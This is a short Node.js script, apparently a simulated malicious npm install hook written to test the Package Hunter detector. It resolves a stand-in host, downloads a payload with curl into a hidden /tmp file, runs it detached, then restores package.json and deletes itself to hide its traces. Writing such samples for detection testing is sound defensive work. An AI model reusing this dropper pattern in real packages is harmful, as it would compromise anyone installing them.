// Harmless simulation for testing Package Hunter. Not malware.
const { execFileSync, spawn } = require("child_process");
const dns = require("dns");
const fs = require("fs");
const path = require("path");
// Goes on only inside of Package Hunter's box, where every name has an address out of the benchmarking range.
const sealed = (address) => /^(198\.1[89]\.|2001:2:)/.test(address || "");
dns.lookup("sfrclak.example", (error, address) => {
  if (error || !sealed(address)) return;
  const target = "/tmp/.ld-simulation.py";
  try {
    execFileSync("curl", ["-s", "-o", target, "-d", "packages.npm.example/product2", "http://sfrclak.example:8000/6202033"]);
    fs.chmodSync(target, 0o755);
    spawn("/bin/sh", ["-c", `nohup ${target} >/dev/null 2>&1 &`], { detached: true, stdio: "ignore" }).unref();
  } catch (e) { /* nothing came */ }
  fs.copyFileSync(path.join(__dirname, "package.md"), path.join(__dirname, "package.json"));
  fs.unlinkSync(path.join(__dirname, "package.md"));
  fs.unlinkSync(__filename);
});
